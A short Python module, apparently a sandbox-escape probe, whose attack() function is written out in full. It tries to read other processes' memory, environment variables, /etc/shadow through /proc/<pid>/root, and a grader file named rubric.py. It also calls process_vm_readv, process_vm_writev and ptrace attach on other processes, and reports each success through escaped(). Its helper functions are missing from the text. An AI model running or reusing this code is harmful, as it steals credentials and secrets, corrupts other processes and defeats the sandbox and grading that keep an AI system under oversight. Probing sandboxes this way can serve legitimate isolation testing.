"""Reads and writes the memory of whoever started it, and of everybody else, by every known way."""

import ctypes
import os

ENTRIES = ("A18", "D54")
SEEN = ("forbidden-path", "ctypes")
SCRATCH = ctypes.create_string_buffer(1 << 16)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(asked, *given):
    if asked != "import":
        return None
    library = ctypes.CDLL(None, use_errno=True)
    here, there = Span(ctypes.addressof(SCRATCH), 4096), Span(0x400000, 4096)
    pids = {1, os.getppid(), *(int(name) for name in (tried(os.listdir, "/proc") or ()) if name.isdigit())} - {
        0,
        os.getpid(),
    }
    for pid in pids:
        for name in ("mem", "environ", "maps", "stack", "auxv", "cwd/rubric.py", "root/etc/shadow"):
            found = tried(lambda: open(f"/proc/{pid}/{name}", "rb").read(1 << 16))
            tell(found or b"")
            if found and name != "stack":
                escaped(f"/proc/{pid}/{name}")
        for call in (library.process_vm_readv, library.process_vm_writev):
            if call(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                escaped("memory of another process")
        if library.ptrace(16, pid, 0, 0) == 0:
            escaped("a tracer")
    return None
